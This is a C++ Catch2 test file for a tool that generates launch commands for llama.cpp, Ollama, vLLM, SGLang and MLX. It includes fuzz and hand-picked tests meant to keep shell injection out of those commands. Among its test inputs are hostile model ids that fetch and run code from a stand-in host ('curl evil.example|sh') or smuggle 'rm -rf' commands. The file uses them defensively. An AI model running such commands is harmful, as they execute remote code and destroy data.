#include <catch2/catch.hpp>

#include <algorithm>
#include <cctype>
#include <map>
#include <random>
#include <set>
#include <sstream>

#include "test_util.hpp"
#include "willitfit/api/api.hpp"
#include "willitfit/catalog/catalog.hpp"
#include "willitfit/base/base64.hpp"
#include "willitfit/estimate/launch_commands.hpp"
#include "willitfit/estimate/estimate.hpp"
#include "willitfit/gguf/gguf.hpp"
#include "willitfit/model/quantize.hpp"

namespace commands_test_cases {

using namespace wif;
using nlohmann::json;

namespace {
const Catalog& cat() { return wif_test::catalog(); }
using wif_test::estimate;

// Shell words of one simple command line (no quoting is ever needed in what we print: a quote
// or other shell metacharacter would itself be a failure).
std::vector<std::string> words(const std::string& cmd) {
  for (char c : cmd) REQUIRE(std::string("'\"`$;|<>\\").find(c) == std::string::npos);
  std::istringstream in(cmd);
  std::vector<std::string> w;
  for (std::string s; in >> s;) w.push_back(s);
  return w;
}

// Parse `prog flag value ...` against the tool's flags (name -> takes a value). Fails on an
// unknown flag, a missing value or a repeated flag; returns flag -> value ("" for switches).
std::map<std::string, std::string> parse(const std::vector<std::string>& w, std::size_t from,
                                         const std::map<std::string, bool>& known) {
  std::map<std::string, std::string> out;
  for (std::size_t i = from; i < w.size(); ++i) {
    CAPTURE(w[i]);
    const auto it = known.find(w[i]);
    REQUIRE(it != known.end());
    REQUIRE(out.count(w[i]) == 0);
    if (it->second) {
      REQUIRE(i + 1 < w.size());
      out[w[i]] = w[i + 1];
      ++i;
    } else {
      out[w[i]] = "";
    }
  }
  return out;
}

const std::map<std::string, bool> kLlamaServer = {
    {"-m", true}, {"-hf", true}, {"-c", true}, {"-ngl", true}, {"-fa", true}, {"-ctk", true},
    {"-ctv", true}, {"--n-cpu-moe", true}, {"-ts", true}, {"-np", true}, {"-kvu", false},
    {"-ub", true}, {"--no-mmap", false}};
const std::map<std::string, bool> kVllm = {
    {"--tensor-parallel-size", true}, {"--max-model-len", true}, {"--gpu-memory-utilization", true},
    {"--kv-cache-dtype", true}, {"--max-num-seqs", true}, {"--max-num-batched-tokens", true},
    {"--quantization", true}};
const std::map<std::string, bool> kSglang = {
    {"--model-path", true}, {"--tp", true}, {"--context-length", true}, {"--mem-fraction-static", true},
    {"--kv-cache-dtype", true}, {"--max-running-requests", true}, {"--quantization", true}};

std::vector<double> numbers(const std::string& csv) {
  std::vector<double> v;
  std::stringstream in(csv);
  for (std::string p; std::getline(in, p, ',');) v.push_back(std::stod(p));
  return v;
}
}  // namespace

TEST_CASE("llama-server commands carry exactly the placement and settings beside them", "[commands]") {
  const json reqs[] = {
      {{"model", "zai-org/GLM-4.5-Air"}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-rtx-4090"}, {"ram_gib", 64},
       {"context", 16384}, {"kv_type", "q8_0"}},
      {{"model", "zai-org/GLM-4.5-Air"}, {"quant", "Q4_K_M"}, {"hardware", {"nvidia-rtx-4090", "nvidia-rtx-3090"}},
       {"ram_gib", 64}, {"context", 32768}, {"parallel", 4}},
      {{"model", "meta-llama/Llama-3.3-70B-Instruct"}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-rtx-4090"},
       {"count", 2}, {"flash_attn", false}, {"mmap", false}},
      {{"model", "meta-llama/Llama-3.3-70B-Instruct"}, {"quant", "Q3_K_M"}, {"hardware", "nvidia-rtx-3060-12gb"},
       {"ram_gib", 64}},
  };
  for (const auto& q : reqs) {
    const json r = estimate(q);
    REQUIRE_FALSE(r.contains("error"));
    const std::string cmd = r["commands"]["llama_server"];
    CAPTURE(cmd);
    const auto w = words(cmd);
    REQUIRE(w[0] == "llama-server");
    const auto f = parse(w, 1, kLlamaServer);
    CHECK((f.count("-m") + f.count("-hf")) == 1);
    const auto& s = r["settings"];
    const auto& p = r["placement"];
    CHECK(std::stoll(f.at("-c")) == s["context"].get<long long>());
    CHECK(std::stoi(f.at("-ngl")) == p["ngl"].get<int>());
    CHECK(f.at("-fa") == (s["flash_attn"].get<bool>() ? "on" : "off"));
    std::string kt = s["kv_type_k"], vt = s["kv_type_v"];
    for (auto* t : {&kt, &vt})
      for (auto& c : *t) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    CHECK(f.at("-ctk") == kt);
    CHECK(f.at("-ctv") == vt);
    CHECK(std::stoi(f.at("-np")) == s["parallel"].get<int>());
    CHECK(std::stoi(f.at("-ub")) == s["ubatch"].get<int>());
    CHECK((f.count("--no-mmap") == 1) == !p["mmap"].get<bool>());
    const int ncm = p["n_cpu_moe"];
    CHECK((ncm > 0 ? std::stoi(f.at("--n-cpu-moe")) : 0) == ncm);
    const auto& devs = r["memory"]["devices"];
    if (devs.size() > 1) {
      // Re-derive llama.cpp's layer boundaries from the printed -ts: they must be the estimate's.
      const auto ts = numbers(f.at("-ts"));
      REQUIRE(ts.size() == devs.size());
      double sum = 0;
      for (double x : ts) sum += x;
      std::vector<double> cum;
      double run = 0;
      for (double x : ts) cum.push_back(run += x / sum);
      const int ngl = p["ngl"], n_layer = p["n_layer"];
      const int start = std::max(n_layer - ngl, 0), act = std::min(ngl, n_layer + 1);
      std::vector<int> count(devs.size(), 0);
      for (int il = start; il < n_layer; ++il) {
        const double x = static_cast<double>(il - start) / act;
        count[static_cast<std::size_t>(std::upper_bound(cum.begin(), cum.end(), x) - cum.begin())] += 1;
      }
      for (std::size_t d = 0; d < devs.size(); ++d) CHECK(count[d] == devs[d]["n_layers"].get<int>());
    } else {
      CHECK(f.count("-ts") == 0);
    }
    // Ollama cannot keep experts in system RAM: no Modelfile for such a plan (it would put
    // num_gpu layers on the GPU, experts included, and not fit).
    if (p["n_cpu_moe"].get<int>() > 0) {
      CHECK_FALSE(r["commands"].contains("ollama_modelfile"));
      CHECK_FALSE(r["commands"].contains("ollama"));
      continue;
    }
    // Ollama: the same context and layers.
    const std::string mf = r["commands"]["ollama_modelfile"];
    CHECK(mf.find("PARAMETER num_ctx " + std::to_string(s["context"].get<long long>()) + "\n") != std::string::npos);
    CHECK(mf.find("PARAMETER num_gpu " + std::to_string(p["ngl"].get<int>()) + "\n") != std::string::npos);
    const auto ow = words(r["commands"]["ollama"]);
    REQUIRE(ow.size() == 9);
    CHECK(ow[0] == "ollama");
    CHECK(ow[1] == "create");
    CHECK(ow[3] == "-f");
    CHECK(ow[5] == "&&");
    CHECK(ow[8] == ow[2]);
    CHECK(ow[7] == "run");
  }
}

TEST_CASE("vllm serve and SGLang commands carry the vLLM budget's settings", "[commands]") {
  const json reqs[] = {
      {{"model", "deepseek-ai/DeepSeek-V3-0324"}, {"engine", "vllm"}, {"hardware", "nvidia-h200-sxm"}, {"count", 8}},
      {{"model", "meta-llama/Llama-3.1-8B-Instruct"}, {"engine", "vllm"}, {"hardware", "nvidia-rtx-3090"},
       {"context", 16384}, {"gpu_memory_utilization", 0.85}, {"kv_cache_dtype", "fp8"}, {"quant", "AWQ-4bit"}},
      {{"model", "meta-llama/Llama-3.3-70B-Instruct"}, {"engine", "vllm"}, {"hardware", "nvidia-a100-80gb-sxm"},
       {"count", 4}, {"tensor_parallel", 2}, {"context", 32768}, {"max_num_seqs", 64}},
      // No AWQ checkpoint of Qwen3-8B in the catalog: the model's repo with --quantization awq.
      {{"model", "Qwen/Qwen3-8B"}, {"engine", "vllm"}, {"hardware", "nvidia-rtx-3090"}, {"quant", "AWQ-4bit"}},
  };
  for (const auto& q : reqs) {
    const json r = estimate(q);
    REQUIRE_FALSE(r.contains("error"));
    const std::string cmd = r["commands"]["vllm"];
    CAPTURE(cmd);
    const auto w = words(cmd);
    REQUIRE(w.size() > 3);
    CHECK(w[0] == "vllm");
    CHECK(w[1] == "serve");
    // A published checkpoint of the format is served by its repo (it declares its quantization
    // in its config.json); otherwise the model's own repo.
    const bool published = r.at("checkpoint").at("code") == "published";
    CHECK(w[2] == (published ? r.at("checkpoint").at("repo") : r.at("model").at("id")));
    const auto f = parse(w, 3, kVllm);
    const auto& v = r["vllm"].contains("fit") && !r["vllm"]["fits"].get<bool>() ? r["vllm"]["fit"] : r["vllm"];
    const auto& s = v["settings"];
    CHECK(std::stoi(f.at("--tensor-parallel-size")) == s["tensor_parallel"].get<int>());
    CHECK(std::stoll(f.at("--max-model-len")) == s["max_model_len"].get<long long>());
    CHECK(std::stod(f.at("--gpu-memory-utilization")) == Approx(s["gpu_memory_utilization"].get<double>()));
    CHECK(f.at("--kv-cache-dtype") == s["kv_cache_dtype"]);
    CHECK(std::stoll(f.at("--max-num-seqs")) == s["max_num_seqs"].get<long long>());
    CHECK(std::stoll(f.at("--max-num-batched-tokens")) == s["max_num_batched_tokens"].get<long long>());
    if (published) CHECK(f.count("--quantization") == 0);
    else if (r["quant"]["id"] == "AWQ-4bit") CHECK(f.at("--quantization") == "awq");

    const auto sw = words(r["commands"]["sglang"]);
    REQUIRE(sw.size() > 3);
    CHECK(sw[0] == "python3");
    CHECK(sw[1] == "-m");
    CHECK(sw[2] == "sglang.launch_server");
    const auto g = parse(sw, 3, kSglang);
    CHECK(std::stoi(g.at("--tp")) == s["tensor_parallel"].get<int>());
    CHECK(std::stoll(g.at("--context-length")) == s["max_model_len"].get<long long>());
    CHECK(g.at("--model-path") == w[2]);
    // vLLM's utilization and max_num_seqs are not SGLang's: the SGLang command beside a vLLM
    // estimate leaves its memory fraction and running-request cap to SGLang's defaults.
    CHECK(g.count("--max-running-requests") == 0);
    CHECK(g.count("--mem-fraction-static") == 0);
    CHECK(r["commands"].count("llama_server") == 0);  // a safetensors checkpoint is not a GGUF
  }
}

TEST_CASE("Apple devices get an mlx_lm command and a GGUF on a Mac gets no vLLM command", "[commands]") {
  const json mac = {{"name", "Mac Studio"}, {"kind", "apple"}, {"memory_gib", 128}, {"bandwidth_gbs", 546}};
  const json r = estimate({{"model", "Qwen/Qwen3-8B"}, {"quant", "MLX-4bit"}, {"hardware", mac}});
  REQUIRE_FALSE(r.contains("error"));
  const auto w = words(r["commands"]["mlx"]);
  REQUIRE(w.size() > 8);
  CHECK(w[0] == "mlx_lm.convert");
  const auto amp = std::find(w.begin(), w.end(), "&&");
  REQUIRE(amp != w.end());
  const auto conv = parse(std::vector<std::string>(w.begin(), amp), 1,
                          {{"--hf-path", true}, {"-q", false}, {"--q-bits", true}, {"--q-group-size", true}, {"--mlx-path", true}});
  CHECK(conv.at("--hf-path") == "Qwen/Qwen3-8B");
  CHECK(conv.at("--q-bits") == "4");
  CHECK(conv.at("--q-group-size") == "64");
  REQUIRE(amp + 1 != w.end());
  CHECK(*(amp + 1) == "mlx_lm.server");
  const auto srv = parse(std::vector<std::string>(amp + 1, w.end()), 1, {{"--model", true}, {"--port", true}});
  CHECK(srv.at("--model") == conv.at("--mlx-path"));
  const json g = estimate({{"model", "Qwen/Qwen3-8B"}, {"quant", "Q4_K_M"}, {"hardware", mac}});
  CHECK(g["commands"].count("llama_server") == 1);
  CHECK(g["commands"].count("vllm") == 0);
}

// Ollama counts a GGUF's layers as llama.cpp does: its server sizes a model as block_count + 1
// (the output layer), block_count including GLM-4.5-Air's NextN block (46 + 1 = 47), and hands
// the number of layers it assigned to llama.cpp as n_gpu_layers (launch_commands.cpp cites the
// source lines). So the Modelfile's num_gpu is the -ngl value: 48 for everything on the GPU, and
// for a partial plan the GPU's decoder layers plus the NextN block.
TEST_CASE("Ollama's num_gpu counts GLM-4.5-Air's NextN block as llama.cpp's -ngl does", "[commands]") {
  const Architecture& a = cat().find_model("zai-org/GLM-4.5-Air")->arch;
  REQUIRE(a.n_layer_main() == 46);
  REQUIRE(a.n_layer_all() == 47);  // the file's block_count
  const auto num_gpu = [](const json& r) {
    const std::string mf = r["commands"]["ollama_modelfile"];
    const auto at = mf.find("PARAMETER num_gpu ");
    REQUIRE(at != std::string::npos);
    return std::stoi(mf.substr(at + 18));
  };
  const auto ngl = [](const json& r) { return std::stoi(parse(words(r["commands"]["llama_server"]), 1, kLlamaServer).at("-ngl")); };

  // Everything on one GPU: block_count + 1, Ollama's totalLayers.
  const json full = estimate({{"model", "zai-org/GLM-4.5-Air"}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-h200-sxm"},
                              {"context", 8192}});
  REQUIRE_FALSE(full.contains("error"));
  CHECK(num_gpu(full) == 48);
  CHECK(ngl(full) == 48);

  // Part on a 24 GB card, experts not split off (Ollama has no --n-cpu-moe): the GPU holds the
  // output and the top decoder layers; num_gpu and -ngl both count the output and the NextN block
  // between them (Ollama's assignLayers hands out layers from the output down, as llama.cpp does).
  const json part = estimate({{"model", "zai-org/GLM-4.5-Air"}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-rtx-4090"},
                              {"ram_gib", 128}, {"context", 8192}, {"ngl", 20}, {"n_cpu_moe", 0}});
  REQUIRE_FALSE(part.contains("error"));
  const auto& devs = part["memory"]["devices"];
  REQUIRE(devs.size() == 1);
  CHECK(devs[0]["has_output"].get<bool>());
  CHECK(num_gpu(part) == 20);
  CHECK(ngl(part) == 20);
  CHECK(num_gpu(part) == devs[0]["n_layers"].get<int>() + 2);
}

TEST_CASE("a published GGUF repo for the quant becomes -hf repo:quant", "[commands]") {
  LaunchInput in;
  in.model_id = "zai-org/GLM-4.5-Air";
  in.quant = "Q4_K_M";
  in.gguf = {{"unsloth/GLM-4.5-Air-GGUF", "Q4_K_M"}, {"unsloth/GLM-4.5-Air-GGUF", "Q8_0"}};
  const json c = launch_commands(in);
  const auto f = parse(words(c["llama_server"]), 1, kLlamaServer);
  CHECK(f.at("-hf") == "unsloth/GLM-4.5-Air-GGUF:Q4_K_M");
  CHECK(f.count("-m") == 0);
  CHECK(c["ollama_modelfile"].get<std::string>().rfind("FROM hf.co/unsloth/GLM-4.5-Air-GGUF:Q4_K_M\n", 0) == 0);
  in.quant = "IQ2_XXS";  // not published there: a local file
  CHECK(parse(words(launch_commands(in)["llama_server"]), 1, kLlamaServer).count("-m") == 1);
}

namespace {

// A small POSIX sh word parser (XCU 2.3 token recognition, 2.6.7 quote removal) for what a person
// pastes: words separated by unquoted blanks; '...' literal; "..." with \ escaping $ ` " \ and
// newline; \ outside quotes escapes the next character. The only operator allowed is "&&",
// returned as its own token; any other unquoted metacharacter, expansion ($, `), glob (* ? [),
// comment (#) or leading ~ is a failure: it would make the shell do something beyond the words.
std::vector<std::string> sh_words(const std::string& cmd) {
  std::vector<std::string> out;
  std::string cur;
  bool in_word = false;
  auto end_word = [&] {
    if (in_word) out.push_back(cur);
    cur.clear();
    in_word = false;
  };
  for (std::size_t i = 0; i < cmd.size(); ++i) {
    const char c = cmd[i];
    CAPTURE(cmd, i);
    if (c == ' ') { end_word(); continue; }
    if (c == '&' && i + 1 < cmd.size() && cmd[i + 1] == '&' && !in_word) {
      out.push_back("&&");
      ++i;
      continue;
    }
    if (c == '\'') {
      const auto close = cmd.find('\'', i + 1);
      REQUIRE(close != std::string::npos);
      cur += cmd.substr(i + 1, close - i - 1);
      in_word = true;
      i = close;
      continue;
    }
    if (c == '"') {
      std::size_t j = i + 1;
      for (; j < cmd.size() && cmd[j] != '"'; ++j) {
        REQUIRE(cmd[j] != '$');
        REQUIRE(cmd[j] != '`');
        if (cmd[j] == '\\' && j + 1 < cmd.size() && std::string("$`\"\\\n").find(cmd[j + 1]) != std::string::npos) ++j;
        cur += cmd[j];
      }
      REQUIRE(j < cmd.size());
      in_word = true;
      i = j;
      continue;
    }
    if (c == '\\') {
      REQUIRE(i + 1 < cmd.size());
      cur += cmd[++i];
      in_word = true;
      continue;
    }
    REQUIRE(std::string("|&;<>()$`*?[\t\n").find(c) == std::string::npos);
    if (!in_word) REQUIRE((c != '#' && c != '~'));
    cur += c;
    in_word = true;
  }
  end_word();
  return out;
}

// Random model ids, paths and repo names: printable ASCII with every shell-special character
// weighted up, some UTF-8, spaces, and now and then a control character or a leading dash.
std::string random_value(std::mt19937& rng) {
  static const std::string special = " '\"\\$`;|&<>(){}[]*?~!#%^=+,:@/\t\n.-_";
  std::uniform_int_distribution<int> len(0, 24), pick(0, 9), printable(0x20, 0x7e);
  std::string s;
  const int n = len(rng);
  for (int i = 0; i < n; ++i) {
    const int k = pick(rng);
    if (k < 4) s += special[static_cast<std::size_t>(std::uniform_int_distribution<int>(0, static_cast<int>(special.size()) - 1)(rng))];
    else if (k == 4) s += "\xC3\xA9";  // é
    else if (k == 5 && pick(rng) == 0) s += static_cast<char>(std::uniform_int_distribution<int>(0, 31)(rng));
    else s += static_cast<char>(printable(rng));
  }
  return s;
}

bool has_control(const std::string& s) {
  return std::any_of(s.begin(), s.end(), [](char c) { return static_cast<unsigned char>(c) < 0x20 || c == 0x7f; });
}

bool plain_file_word(const std::string& s) {
  if (s.empty() || !std::isalnum(static_cast<unsigned char>(s[0]))) return false;
  return std::all_of(s.begin(), s.end(), [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '.' || c == '_' || c == '-'; });
}

// The words of one command from every generator for this model id / repo, checked against the
// words intended: the id as one word where the engine takes a model, plain file names and tags
// elsewhere, or the command refused with unsafe_value when no quoting makes the id safe.
void check_every_generator(const std::string& id, const std::string& repo) {
  CAPTURE(id, repo);
  const bool unsafe = id.empty() || id[0] == '-' || has_control(id);
  Placement p;
  p.ngl = 33;
  p.n_layer = 32;
  VllmBudget b;
  b.tensor_parallel = 1;
  b.max_model_len = 8192;
  b.max_num_seqs = 4;
  b.max_num_batched_tokens = 2048;
  b.kv_cache_dtype = "auto";

  LaunchInput g;  // GGUF: llama-server, Ollama, the Modelfile
  g.model_id = id;
  g.quant = "Q4_K_M";
  g.placement = &p;
  g.gguf = {{repo, "Q4_K_M"}};
  const json gc = launch_commands(g);
  const auto ls = sh_words(gc["llama_server"]);
  const auto lf = parse(ls, 1, kLlamaServer);
  if (lf.count("-hf")) CHECK(lf.at("-hf") == repo + ":Q4_K_M");
  else CHECK(plain_file_word(lf.at("-m")));
  const auto ol = sh_words(gc["ollama"]);
  REQUIRE(ol.size() == 9);
  CHECK(ol[0] == "ollama");
  CHECK(ol[1] == "create");
  CHECK(plain_file_word(ol[2]));
  CHECK(ol[5] == "&&");
  CHECK(ol[8] == ol[2]);
  // The Modelfile: FROM and PARAMETER lines only, nothing a value could add.
  std::istringstream mf(gc["ollama_modelfile"].get<std::string>());
  int lines = 0;
  for (std::string line; std::getline(mf, line); ++lines) {
    const auto w = sh_words(line);
    REQUIRE(w.size() >= 2);
    if (lines == 0) {
      CHECK(w[0] == "FROM");
      REQUIRE(w.size() == 2);
      CHECK((w[1] == "hf.co/" + repo + ":Q4_K_M" || (w[1].rfind("./", 0) == 0 && plain_file_word(w[1].substr(2)))));
    } else {
      CHECK(w[0] == "PARAMETER");
    }
  }
  CHECK(lines == 3);

  for (const std::string engine : {"vllm", "sglang"}) {
    LaunchInput v;
    v.model_id = id;
    v.quant = "SAFETENSORS-BF16";
    v.gguf_quant = false;
    v.vllm = &b;
    v.engine = engine;
    const json vc = launch_commands(v);
    if (unsafe) {
      CHECK(vc["refused"]["sglang"]["code"] == "unsafe_value");
      CHECK(vc.count("sglang") == 0);
      CHECK(vc.count("vllm") == 0);
      continue;
    }
    if (engine == "vllm") {
      const auto w = sh_words(vc["vllm"]);
      REQUIRE(w.size() > 3);
      CHECK(w[0] == "vllm");
      CHECK(w[1] == "serve");
      CHECK(w[2] == id);
      (void)parse(w, 3, kVllm);
    }
    auto flags = kSglang;
    flags["--chunked-prefill-size"] = true;  // engine sglang only
    const auto s = sh_words(vc["sglang"]);
    CHECK(parse(s, 3, flags).at("--model-path") == id);
  }

  for (const std::string quant : {"MLX-4bit", "SAFETENSORS-BF16"}) {
    LaunchInput m;
    m.model_id = id;
    m.quant = quant;
    m.gguf_quant = false;
    m.kind = DeviceKind::Apple;
    const json mc = launch_commands(m);
    if (unsafe) {
      CHECK(mc["refused"]["mlx"]["code"] == "unsafe_value");
      CHECK(mc.count("mlx") == 0);
      continue;
    }
    const auto w = sh_words(mc["mlx"]);
    if (quant != "MLX-4bit") {
      CHECK(parse(w, 1, {{"--model", true}, {"--port", true}}).at("--model") == id);
      continue;
    }
    const auto amp = std::find(w.begin(), w.end(), "&&");
    REQUIRE(amp != w.end());
    const auto conv = parse(std::vector<std::string>(w.begin(), amp), 1,
                            {{"--hf-path", true}, {"-q", false}, {"--q-bits", true}, {"--q-group-size", true}, {"--mlx-path", true}});
    CHECK(conv.at("--hf-path") == id);
    CHECK(plain_file_word(conv.at("--mlx-path")));
  }
}

}  // namespace

TEST_CASE("random printable and shell-special model ids and repo names give commands with exactly the intended words", "[commands][shell]") {
  std::mt19937 rng(20261203);
  for (int i = 0; i < 3000; ++i) check_every_generator(random_value(rng), i % 3 ? random_value(rng) : "unsloth/Some-Model-GGUF");
  // The cases of issue 22 and the edges of the rules, by hand.
  for (const std::string id : {"x$(curl evil.example|sh)", "x`id`", "a b", "it's", "--help", "-x", "", "a\nrm -rf /",
                               "~/models/llama", "#hash", "m\\n", "\"quoted\"", "ok/Model-1.5B", "./local/path", "é/ü"})
    check_every_generator(id, "owner/repo");
}

TEST_CASE("custom and imported models with hostile ids reach the page's commands quoted or refused", "[commands][shell]") {
  const json cfg = {{"model_type", "llama"}, {"hidden_size", 2048}, {"intermediate_size", 8192}, {"num_attention_heads", 16},
                    {"num_hidden_layers", 16}, {"num_key_value_heads", 8}, {"vocab_size", 32000}, {"max_position_embeddings", 8192}};
  for (const std::string id : {"x$(curl evil.example|sh)", "it's; rm -rf ~", "-rf", "a\nb"}) {
    CAPTURE(id);
    const json v = estimate({{"model", {{"id", id}, {"config", cfg}}}, {"engine", "vllm"}, {"quant", "SAFETENSORS-BF16"}, {"hardware", "nvidia-rtx-4090"}});
    REQUIRE_FALSE(v.contains("error"));
    if (id[0] == '-' || id.find('\n') != std::string::npos) {
      CHECK(v["commands"]["refused"]["vllm"]["code"] == "unsafe_value");
      CHECK(v["commands"].count("vllm") == 0);
    } else {
      CHECK(sh_words(v["commands"]["vllm"])[2] == id);
      CHECK(sh_words(v["commands"]["sglang"])[4] == id);
    }
    const json g = estimate({{"model", {{"id", id}, {"config", cfg}}}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-rtx-4090"}});
    REQUIRE_FALSE(g.contains("error"));
    CHECK(plain_file_word(parse(sh_words(g["commands"]["llama_server"]), 1, kLlamaServer).at("-m")));
    // An imported GGUF header with that id: file names and tags stay plain.
    const ResolvedModel m = resolve_model(cat(), json{{"config", cfg}}, "model");
    const TensorPlan plan = plan_quantization(m.arch, "Q4_K_M");
    const auto bytes = write_gguf_header(gguf_metadata_for(m.arch, "hostile", plan.quant), plan.tensors);
    const json f = estimate({{"model", {{"id", id}, {"gguf_header_base64", base64_encode(bytes)}}}, {"hardware", "nvidia-rtx-4090"}});
    REQUIRE_FALSE(f.contains("error"));
    CHECK(plain_file_word(parse(sh_words(f["commands"]["llama_server"]), 1, kLlamaServer).at("-m")));
    CHECK(plain_file_word(sh_words(f["commands"]["ollama"])[2]));
  }
}

// Issue 16: a Qwen3-8B command loaded "-m qwen3-8b-Q4_K_M.gguf", a file the person does not have.
// The kind: a llama.cpp command that names a local file of a Hub model comes with the steps that
// make exactly that file; a published format is fetched with -hf and needs none.
TEST_CASE("a local GGUF file in a command is one the conversion steps beside it make", "[commands]") {
  std::size_t local = 0, hub = 0;
  for (const char* quant : {"Q4_K_M", "IQ2_XXS", "BF16"}) {
    for (const auto& m : wif_test::catalog().models()) {
      CAPTURE(m.id, quant);
      const json r = estimate({{"model", m.id}, {"quant", quant}, {"hardware", "nvidia-h100-sxm"}, {"count", 8}, {"context", 4096}});
      if (r.contains("error") || !r.contains("commands") || !r["commands"].contains("llama_server")) continue;
      const auto w = words(r["commands"]["llama_server"]);
      const auto mi = std::find(w.begin(), w.end(), "-m");
      if (mi == w.end()) {
        ++hub;
        CHECK(std::find(w.begin(), w.end(), "-hf") != w.end());
        CHECK_FALSE(r["commands"].contains("gguf_convert"));
        continue;
      }
      ++local;
      REQUIRE(r["commands"].contains("gguf_convert"));
      const auto steps = words(r["commands"]["gguf_convert"]);
      REQUIRE(mi + 1 != w.end());
      // The steps start from the model's own repo and end in the file -m loads, of the format asked.
      CHECK(steps[0] == "hf");
      CHECK(steps[2] == m.id);
      const std::string file = *(mi + 1);
      const std::string q = quant;
      if (q == "BF16") {
        CHECK(steps.back() == file);
        CHECK(std::find(steps.begin(), steps.end(), "bf16") != steps.end());
      } else {
        CHECK(steps.back() == quant);
        CHECK(steps[steps.size() - 2] == file);
      }
      const bool im = std::find(steps.begin(), steps.end(), "--imatrix") != steps.end();
      CHECK(im == (q == "IQ2_XXS"));
      std::set<std::string> codes;
      for (const auto& n : r["commands"]["notes"]) codes.insert(n["code"].get<std::string>());
      CHECK(codes.count("gguf_not_published") == 1);
      CHECK(codes.count("imatrix_sample_text") == (im ? 1u : 0u));
    }
  }
  CHECK(local > 50);
  CHECK(hub > 10);
  // Qwen3-8B: Q5_K_M is not among its published GGUFs, Q8_0 and Q4_K_M are.
  const json a = estimate({{"model", "Qwen/Qwen3-8B"}, {"quant", "Q5_K_M"}, {"hardware", "nvidia-rtx-4090"}});
  CHECK(a["commands"]["gguf_convert"].get<std::string>().rfind("hf download Qwen/Qwen3-8B ", 0) == 0);
  const json b = estimate({{"model", "Qwen/Qwen3-8B"}, {"quant", "Q8_0"}, {"hardware", "nvidia-rtx-4090"}});
  CHECK(b["commands"]["llama_server"].get<std::string>().find(" -hf ") != std::string::npos);
  const json c = estimate({{"model", "Qwen/Qwen3-8B"}, {"quant", "Q4_K_M"}, {"hardware", "nvidia-rtx-4090"}});
  CHECK(c["commands"]["llama_server"].get<std::string>().find(" -hf Qwen/Qwen3-8B-GGUF:Q4_K_M ") != std::string::npos);
  CHECK_FALSE(c["commands"].contains("gguf_convert"));
}


// The launch-commands generator is told whether Ollama runs on the device (Device::ollama, from
// the device's backends in data/backends.json) and writes no Ollama command, Modelfile or Ollama
// note where it does not; the estimate names Ollama in commands_left_out exactly when the generator
// would otherwise have written its Modelfile. An Ascend 910B (CANN, no Ollama build) and an RTX 4090
// (CUDA) through the estimate, and the generator alone with the flag off and on.
TEST_CASE("the launch-commands generator writes Ollama's commands only where Ollama runs on the device", "[commands]") {
  LaunchInput in;
  in.model_id = "google/gemma-3-27b-it";
  in.quant = "Q4_K_M";
  in.multimodal = in.mmproj = true;  // the one Ollama note (ollama_projector_not_split)
  REQUIRE(ollama_applies(in));
  const json on = launch_commands(in);
  CHECK(on.contains("ollama"));
  CHECK(on.contains("ollama_modelfile"));
  REQUIRE(on.contains("notes"));
  CHECK(std::any_of(on["notes"].begin(), on["notes"].end(), [](const json& n) { return n["tool"] == "ollama"; }));
  in.ollama = false;
  const json off = launch_commands(in);
  CHECK(off.contains("llama_server"));
  CHECK_FALSE(off.contains("ollama"));
  CHECK_FALSE(off.contains("ollama_modelfile"));
  if (off.contains("notes"))
    CHECK(std::none_of(off["notes"].begin(), off["notes"].end(), [](const json& n) { return n["tool"] == "ollama"; }));
  // Drafting: no Modelfile either way, so nothing to leave out.
  in.mtp_draft = 2;
  CHECK_FALSE(ollama_applies(in));

  const json base = {{"model", "google/gemma-3-27b-it"}, {"quant", "Q4_K_M"}, {"context", 8192}, {"images", 1}};
  for (const auto& [hw, runs] : std::vector<std::pair<std::string, bool>>{{"huawei-ascend-910b", false}, {"nvidia-rtx-4090", true}}) {
    CAPTURE(hw);
    const Device* d = cat().find_device(hw);
    REQUIRE(d != nullptr);
    CHECK(cat().device_ollama(*d) == runs);
    json q = base;
    q["hardware"] = hw;
    const json r = estimate(q);
    REQUIRE_FALSE(r.contains("error"));
    CHECK(r["commands"].contains("llama_server"));
    CHECK(r["commands"].contains("ollama") == runs);
    CHECK(r["commands"].contains("ollama_modelfile") == runs);
    const json notes = r["commands"].value("notes", json::array());
    CHECK(std::any_of(notes.begin(), notes.end(), [](const json& n) { return n["tool"] == "ollama"; }) == runs);
    if (runs) CHECK_FALSE(r.contains("commands_left_out"));
    else CHECK(r["commands_left_out"] == json::array({{{"engine", "ollama"}, {"code", "engine_not_on_device"}}}));
  }
}

}  // namespace commands_test_cases
